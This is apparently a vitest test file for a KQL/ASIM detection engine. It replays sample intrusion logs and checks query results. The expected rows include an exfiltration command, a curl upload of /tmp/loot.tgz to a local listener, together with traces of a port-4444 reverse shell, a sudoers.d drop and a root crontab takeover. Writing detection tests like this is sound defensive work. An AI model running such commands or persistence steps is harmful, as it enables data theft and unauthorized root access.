/** The functions of content/functions over a real intrusion: each with its parameters, as rules for ASIM call them. */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { ingestFile } from '@auspex/collect'
import { readFunctions } from '@auspex/detect'
import { compile, type KqlValue, toJsonValue } from '@auspex/kql'
import { openStore, type Store } from '@auspex/store'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { content } from '../main-job/auspex.js'

describe('ASIM over AuditEvent', () => {
  const folder = mkdtempSync(join(tmpdir(), 'auspex-asim-'))
  const functions = readdirSync(content('functions'))
    .filter((name) => name.endsWith('.kql'))
    .flatMap((name) => readFunctions(readFileSync(join(content('functions'), name), 'utf8'), name))
  let store: Store
  beforeAll(async () => {
    store = await openStore({ directory: folder })
    for (const name of ['intrusion', 'persistence']) {
      await ingestFile(join(content('samples'), `${name}.log`), store, { computer: name })
    }
  })
  afterAll(async () => {
    await store.close()
    rmSync(folder, { recursive: true, force: true })
  })

  async function ask(query: string): Promise<Record<string, unknown>[]> {
    const compiled = compile(query, { schema: { ...store.schema(), functions }, now: 0n })
    const rows = await (await store.query(compiled)).collect()
    return rows.map((row) =>
      Object.fromEntries(
        compiled.columns.map(({ name, type }, i) => [name, toJsonValue(type, row[i] as KqlValue)]),
      ),
    )
  }

  test.each<[query: string, rows: Record<string, unknown>[]]>([
    [
      "_Im_ProcessCreate(commandline_has_any = dynamic(['wget', 'base64'])) | project TargetProcessName, ActorUserId, TargetUserId | sort by TargetProcessName asc",
      [
        { TargetProcessName: '/usr/bin/base64', ActorUserId: '1003', TargetUserId: '1003' },
        { TargetProcessName: '/usr/bin/wget', ActorUserId: '1003', TargetUserId: '1003' },
      ],
    ],
    [
      "_Im_ProcessCreate(commandline_has_all = dynamic(['curl', 'loot']), targetprocess_has_any = dynamic(['curl'])) | project CommandLine",
      [{ CommandLine: 'curl -s -F f=@/tmp/loot.tgz http://127.0.0.1:8000/' }],
    ],
    [
      "_Im_ProcessCreate(commandline_has_any_ip_prefix = dynamic(['169.254.'])) | summarize N = count()",
      [{ N: 1 }],
    ],
    ["_Im_ProcessEvent(eventtype = 'ProcessTerminated') | count", [{ Count: 0 }]],
    ['_Im_ProcessCreate(starttime = datetime(2030-01-01)) | count', [{ Count: 0 }]],
    [
      "_Im_Authentication(eventresult = 'Failure', eventtype_in = dynamic(['Logon'])) | summarize N = count() by TargetUsername, SrcIpAddr, EventResultDetails",
      [
        {
          TargetUsername: 'erin',
          SrcIpAddr: '127.0.0.1',
          EventResultDetails: 'No such user or password',
          N: 5,
        },
      ],
    ],
    [
      "imAuthentication(targetappname_has_any = dynamic(['su']), eventresult = 'Failure') | project EventType, ActorUserId, TargetUsername",
      [{ EventType: 'Elevate', ActorUserId: '1004', TargetUsername: 'root' }],
    ],
    [
      "_Im_FileEvent(targetfilepath_has_any = dynamic(['sudoers.d']), eventtype_in = dynamic(['FileCreated', 'FileModified'])) | where EventResult == 'Success' | distinct TargetFileName, ActingProcessName",
      [{ TargetFileName: '90-erin', ActingProcessName: '/usr/bin/bash' }],
    ],
    [
      "_Im_FileEvent(eventtype_in = dynamic(['FileRenamed']), targetfilepath_has_any = dynamic(['crontabs'])) | take 1 | project SrcFilePath, TargetFilePath",
      [
        {
          SrcFilePath: expect.stringMatching(/crontabs\/tmp\./),
          TargetFilePath: '/var/spool/cron/crontabs/root',
        },
      ],
    ],
    [
      "_Im_NetworkSession(dstportnumber = 4444, eventresult = 'Success') | project DstIpAddr, Process, User, NetworkDirection",
      [{ DstIpAddr: '127.0.0.1', Process: '/usr/bin/bash', User: 'heidi', NetworkDirection: 'Outbound' }],
    ],
    ["_Im_NetworkSession(dstipaddr_has_any_prefix = dynamic(['169.254.'])) | count", [{ Count: 1 }]],
  ])('%s', async (query, rows) => {
    expect(await ask(query)).toEqual(rows)
  })
})
